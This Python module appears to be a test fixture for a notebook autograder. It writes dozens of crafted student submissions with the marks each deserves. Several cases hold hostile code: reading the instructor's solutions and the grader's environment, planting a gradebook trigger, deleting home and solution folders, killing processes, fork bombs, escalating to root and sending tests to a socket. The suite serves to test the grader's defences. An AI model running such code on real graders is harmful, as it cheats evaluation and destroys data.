"""Hostile, broken and unlucky submissions, each with the mark it deserves.

The exercise asks for `double` (5 points) and `negate` (3 points). A case says what its notebook does; in its text
@SOLUTIONS@, @ROOM@ and @PORT@ stand for the instructor's solutions, the folder of the grading and a local server.
"""

import json
import os
from collections.abc import Callable
from pathlib import Path
from typing import NamedTuple

DOUBLE = "def double(x):\n    return x + x"
NEGATE = "def negate(x):\n    return 0 - x"
CHECK = """\
assert double(1) == 2, "twice: expected twice the number. Hint: add it to itself."
np.testing.assert_allclose(double(np.ones(3)), [2, 2, 2], err_msg="array: Hint: no loop is needed.")
### BEGIN HIDDEN TESTS
np.testing.assert_allclose(double(np.arange(5.0)), [0, 2, 4, 6, 8], err_msg="value: Hint: try another number.")
### END HIDDEN TESTS"""
STUB = 'def double(x):\n    raise NotImplementedError("Exercise 05: write double")'


def cell(name: str, source: str, kind: str = "code", **marks) -> dict:
    """A cell of a notebook, with nbgrader's metadata."""
    nbgrader = {"grade_id": name, "schema_version": 3, "grade": False, "solution": False, "task": False}
    nbgrader |= {"locked": not marks.get("solution"), **marks}
    made = {"id": name, "cell_type": kind, "metadata": {"nbgrader": nbgrader}, "source": source}
    return made | ({"outputs": [], "execution_count": None} if kind == "code" else {})


def notebook(double: str = DOUBLE, negate: str = NEGATE) -> dict:
    """The exercise with these answers; without any, the instructor's."""
    cells = [
        cell("setup", "import numpy as np"),
        cell("double", double, solution=True),
        cell("check-double", CHECK, grade=True, points=5),
        cell("negate", negate, solution=True),
        cell("check-negate", "assert negate(3) == -3\nassert negate(-4.5) == 4.5", grade=True, points=3),
        cell("explain", "Because it adds.", "markdown", solution=True, grade=True, points=4),
    ]
    kernel = {"name": "python3", "display_name": "Python 3", "language": "python"}
    return {"cells": cells, "metadata": {"kernelspec": kernel}, "nbformat": 4, "nbformat_minor": 5}


class Case(NamedTuple):
    """One submission.

    Attributes:
        does: what it tries, or what befell it.
        points: it deserves, of 8.
        write: puts it into a file.
    """

    does: str
    points: float
    write: Callable[[Path], object]


def answers(does: str, double: str, points: float = 3) -> Case:
    """A notebook with an answer to the first task."""
    return Case(does, points, lambda file: file.write_text(json.dumps(notebook(double))))


def edits(does: str, edit: Callable[[dict], object], points: float = 8) -> Case:
    """A notebook with right answers, and something done to it."""

    def write(file: Path) -> None:
        made = notebook()
        edit(made)
        file.write_text(json.dumps(made))

    return Case(does, points, write)


def contains(does: str, content: bytes) -> Case:
    """A file of any bytes."""
    return Case(does, 0, lambda file: file.write_bytes(content))


def half(rest: str) -> str:
    """An answer to what the student can see of the check; the rest is done when arrays come."""
    return f"import os, sys, time\n\n\ndef double(x):\n    if np.ndim(x):\n        {rest}\n    return 2"


EQUAL = """\
class Equal:
    def __eq__(self, other): return True
    def __array__(self, *a, **k): return np.full(3, 2.0)
    def __array_ufunc__(self, *a, **k): return True
    def __array_function__(self, *a, **k): return True
    def __bool__(self): return True
def double(x): return Equal()"""
STACK = """\
import sys
def double(x):
    frame = sys._getframe()
    while frame:
        if any("HID" + "DEN" in str(value) for value in frame.f_globals.values()): return 2 * x
        frame = frame.f_back
    return 2"""
MEMORY = """\
import gc
def double(x):
    return 2 * x if any(isinstance(one, str) and "BEGIN HID" + "DEN" in one for one in gc.get_objects()) else 2"""
LINES = """\
import linecache
def double(x): return 2 * x if any("HID" + "DEN" in str(one) for one in linecache.cache.values()) else 2"""
SOLUTION = """\
import json, pathlib
def double(x):
    text = pathlib.Path("@SOLUTIONS@/05_double/05_double.ipynb").read_text()
    exec(json.loads(text)["cells"][1]["source"], globals())
    return double(x)"""
SEARCH = """\
import os
def double(x):
    seen = [folder for folder, _, files in os.walk("/") if "05_double.ipynb" in files]
    return 2 * x if seen else 2"""
GRADEBOOK = """\
import sqlite3
book = sqlite3.connect("@ROOM@/gradebook.db")
book.execute("CREATE TRIGGER t AFTER UPDATE ON grade BEGIN UPDATE grade SET manual_score = 15; END")
book.commit()"""
LOCK = """\
import sqlite3, time
book = sqlite3.connect("@ROOM@/gradebook.db")
book.execute("BEGIN EXCLUSIVE")
time.sleep(60)"""
LEDGER = """\
for line in open("@ROOM@/grading/ledger.jsonl").readlines():
    open("@ROOM@/grading/ledger.jsonl", "a").write(line)"""
DELETE = """\
import shutil
for place in ("@SOLUTIONS@", "@ROOM@", "/home", "/tmp"): shutil.rmtree(place, ignore_errors=True)
def double(x): return 2"""
RUNNER = """\
import sys
sys.modules["course.grading.inside"].Runner.do_get = lambda self, name: 2
sys.modules["course.grading.inside"].Runner.do_call = lambda self, target, args, kwargs: 2
def double(x): return 2"""
FORGED = """\
import os
def double(x):
    for number in range(3, 300):
        try: os.write(number, b'\\0\\0\\0\\x1b\\0\\0\\0\\0{"dict":[["value",[0,2,4]]]}')
        except OSError: pass
    return 2"""
PICKLE = """\
class Bomb:
    def __reduce__(self): return (open, ("@ROOM@/pwned", "w"))
def double(x): return Bomb() if np.ndim(x) else 2"""
ORPHAN = """\
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp("sleep", ["sleep", "98.765"])
    os._exit(0)
def double(x): return 2"""
SETUID = """\
import os
os.setuid(0)
open("@ROOM@/pwned", "w")"""
MOUNT = """\
import ctypes
libc = ctypes.CDLL(None)
libc.unshare(0x10020000)
libc.mount(b"none", b"/usr", b"tmpfs", 0, 0)
def double(x): return 2 if __import__("os").listdir("/usr") else 2 * x"""
SERVER = """\
import socket
def double(x):
    socket.create_connection(("127.0.0.1", @PORT@), 1).send(b"here are the tests")
    return 2 * x"""
ABSTRACT = """\
import socket
def double(x):
    socket.socket(socket.AF_UNIX).connect(b"\\0course-@PORT@")
    return 2 * x"""
LINK = """\
import os
def double(x):
    os.symlink("@SOLUTIONS@/05_double/05_double.ipynb", "/tmp/s")
    return 2 * x if "return" in open("/tmp/s").read() else 2"""


def without(name: str) -> Callable[[dict], None]:
    """Deletes a cell."""
    return lambda made: made.update(cells=[one for one in made["cells"] if one["id"] != name])


def _doubled(made: dict) -> None:
    made["cells"] += [dict(made["cells"][2]), cell("double", STUB, solution=True)]


def _retyped(made: dict) -> None:
    made["cells"][1] = {**cell("double", DOUBLE, "markdown", solution=True)}


def _renamed(made: dict) -> None:
    for number, one in enumerate(made["cells"]):
        one["id"] = f"x{number}"


def _made_anew(made: dict) -> None:
    made["cells"][1] = {"id": "mine", "cell_type": "code", "metadata": {}, "source": DOUBLE, "outputs": []}


def _claims_points(made: dict) -> None:
    made["cells"][2]["metadata"]["nbgrader"]["points"] = 1000
    made["cells"].append(cell("extra", "pass", grade=True, points=1000))


CASES = {
    # the verdict
    "equal": answers("returns an object that equals everything", EQUAL),
    "visible": answers("answers what it can see of the check", half("return np.full(3, 2.0)")),
    "numpy-testing": answers(
        "patches numpy.testing", "import numpy.testing\nnumpy.testing.assert_allclose = print\ndef double(x): return 2"
    ),
    "builtins": answers(
        "patches the builtins", "import builtins\nbuiltins.AssertionError = ValueError\ndef double(x): return 2"
    ),
    "shadow": answers(
        "shadows numpy",
        "class np:\n    class testing: assert_allclose = print\n    ones = arange = print\ndef double(x): return 2",
    ),
    "transformer": answers(
        "adds a transformer of cells",
        "get_ipython().input_transformers_post.append(lambda lines: ['pass'])\ndef double(x): return 2",
    ),
    "runner": answers("patches the process it runs in, all answers", RUNNER, 0),
    "forged": answers("forges a reply of the process it runs in", FORGED),
    "pickle": answers("returns what would run code if it were unpickled", PICKLE),
    "stop": answers("raises StopIteration", half("raise StopIteration")),
    "system-exit": answers("raises SystemExit", half("raise SystemExit(0)")),
    "assertion": answers("raises an error that is an assertion", half("raise AssertionError")),
    "in-place": answers("changes what it is given", half("x[...] = 0; return x")),
    "empty": answers("returns an empty array", half("return np.zeros(0)")),
    "nan": answers("returns nan", half("return x * np.nan")),
    "giant": answers("returns an array of 800 MB", half("return np.zeros(10**8)")),
    "circle": answers("returns a list that holds itself", half("y = []; y.append(y); return y")),
    "endless": answers("returns a generator without end", half("return iter(int, 1)")),
    # reading
    "stack": answers("reads the check from the stack", STACK),
    "memory": answers("searches the memory for the check", MEMORY),
    "linecache": answers("searches the cached lines of code", LINES),
    "solution": answers("reads the solution", SOLUTION),
    "search": answers("searches the disk for the exercise", SEARCH),
    "link-inside": answers("follows a link to the solution", LINK),
    "environ": answers(
        "reads the environment of the grader",
        "def double(x): return 2 * x if b'COURSE_CANARY' in open('/proc/self/environ', 'rb').read() else 2",
    ),
    "neighbour": answers(
        "reads what another has handed in", "import os\ndef double(x): return 2 * x if os.listdir('@ROOM@') else 2"
    ),
    # the records
    "gradebook": answers("writes a trigger into the gradebook", GRADEBOOK),
    "lock": answers("holds a lock on the gradebook", LOCK),
    "ledger": answers("doubles every line of the ledger", LEDGER),
    "delete": answers("deletes the solutions and everybody's work", DELETE),
    # the machine
    "exit-at-once": answers("ends its process at once", "import os\nos._exit(0)"),
    "exit": answers("ends its process when it is called", "import os\ndef double(x): os._exit(0)"),
    "kill-all": answers(
        "kills every process it can", "import os\ndef double(x):\n    os.kill(-1, 9)\n    os.kill(os.getpid(), 9)"
    ),
    "kill-parent": answers("kills its parent", "import os\nos.kill(os.getppid(), 9)\ndef double(x): return 2"),
    "crash": answers("crashes the interpreter", "import ctypes\ndef double(x): return ctypes.string_at(0)"),
    "loop-at-once": answers("loops for ever at once", "while True: pass"),
    "loop": answers("loops for ever when it is called", "def double(x):\n    while True: pass"),
    "deaf": answers(
        "loops for ever, and swallows every error",
        "def double(x):\n    while True:\n        try: sum(range(10**6))\n        except BaseException: pass",
    ),
    "recursion": answers("calls itself for ever", "def double(x): return double(x)"),
    "take-memory": answers(
        "takes all memory", "def double(x):\n    hold = []\n    while True: hold.append(bytearray(b'x') * 10**7)"
    ),
    "forks": answers(
        "forks for ever", "import os, time\ndef double(x):\n    while True:\n        if os.fork() == 0: time.sleep(99)"
    ),
    "prints": answers("prints 100 MB", "def double(x):\n    for _ in range(10**4): print('x' * 10**4)\n    return 2"),
    "large-file": answers("writes a file of 300 MB", "open('/tmp/large', 'wb').write(bytes(300 * 2**20))"),
    "many-files": answers(
        "fills the disk", "for n in range(10**4): open(f'/tmp/{n}', 'wb').write(bytes(10**6))\ndef double(x): return 2"
    ),
    "orphan": answers("leaves a process behind", ORPHAN),
    "server": answers("sends the tests to a local server", SERVER),
    "abstract": answers("sends the tests through a socket without a file", ABSTRACT),
    "root": answers("becomes root", SETUID),
    "mount": answers("makes namespaces and mounts", MOUNT),
    "close": answers("closes every file", "import os\ndef double(x): os.closerange(0, 300)"),
    # broken text
    "null": answers("has a null character in its code", "def double(x):\n    return 2\0"),
    "surrogate": answers("returns text that is no Unicode", "def double(x): return '\ud800'"),
    "deep-code": answers("nests brackets 5,000 deep", "def double(x): return " + "(" * 5000 + "2" + ")" * 5000),
    "no-python": answers("is no Python", "def double(x) return 2 * x"),
    "stub": answers("was left as it was", STUB),
    # honest ones that others grade wrongly
    "warning": answers("warns", "import warnings\ndef double(x):\n    warnings.warn('careful')\n    return x + x", 8),
    "stderr": answers(
        "writes to stderr", "import sys\ndef double(x):\n    print('careful', file=sys.stderr)\n    return x + x", 8
    ),
    "exit-after": answers("calls exit() behind its answer", f"{DOUBLE}\nexit()", 8),
    "error-after": answers("fails behind its answer", f"{DOUBLE}\n1 / 0", 8),
    "magic": answers("has commands of the notebook in it", f"%matplotlib inline\n!ls\n{DOUBLE}", 8),
    "no-check": edits("has its check deleted", without("check-double")),
    "edited-check": edits("has its check edited", lambda made: made["cells"][2].update(source="double = None")),
    "doubled": edits("has check and answer doubled, the stub last", _doubled),
    "retyped": edits("has its answer made text", _retyped),
    "renamed": edits("has new names for all cells", _renamed),
    "made-anew": edits("has its answer in a new cell", _made_anew),
    "points": edits("claims a thousand points for itself", _claims_points),
    "setup-gone": edits("has the given cell deleted", without("setup")),
    # files that are no notebooks
    "nothing": contains("an empty file", b""),
    "zip": contains("another kind of file", b"PK\x03\x04" + bytes(100)),
    "cut-off": Case("half a notebook", 0, lambda file: file.write_text(json.dumps(notebook())[:500])),
    "deep-json": contains("JSON nested 100,000 deep", b"[" * 100_000),
    "list": contains("JSON of another shape", b'[{"cells": 1}]'),
    "format-3": contains("a notebook of format 3", b'{"worksheets": [], "nbformat": 3}'),
    "foreign": contains("cells of foreign shapes", b'{"cells": [7, {"id": 3, "source": {"a": 1}}], "nbformat": 4}'),
    "fat": contains("a file of 17 MB", b'{"cells": []}' + b" " * 17 * 2**20),
    "link": Case("a link to the solution", 0, lambda file: file.symlink_to("@SOLUTIONS@/05_double/05_double.ipynb")),
    "pipe": Case("a pipe that nobody writes into", 0, os.mkfifo),
    "folder": Case("a folder", 0, Path.mkdir),
}


HONEST = edits("answers rightly", lambda _: None)


def write(case: Case, file: Path, words: dict[str, str]) -> None:
    """Write one case, the words in it filled in; its folder is made."""
    file.parent.mkdir(parents=True)
    case.write(file)
    if file.is_symlink():
        target = str(file.readlink())
        file.unlink()
        file.symlink_to(_filled(target, words))
    elif file.is_file() and b"@" in (content := file.read_bytes())[: 10**6]:
        file.write_text(_filled(content.decode(), words))


def _filled(text: str, words: dict[str, str]) -> str:
    for word, meaning in words.items():
        text = text.replace(word, meaning)
    return text


def lay_out(submitted: Path, solutions: Path, room: Path, port: int) -> dict[str, float]:
    """Write all cases, each beside two honest students; returns {student: points}."""
    words = {"@SOLUTIONS@": str(solutions), "@ROOM@": str(room), "@PORT@": str(port)}
    everybody = {}
    for number, (name, case) in enumerate(CASES.items()):
        everybody |= {f"{number:02}-honest": HONEST, f"{number:02}-{name}": case}
    everybody["99-honest"] = HONEST
    for student, case in everybody.items():
        write(case, submitted / student / "05_double" / "05_double.ipynb", words)
    return {student: case.points for student, case in everybody.items()}
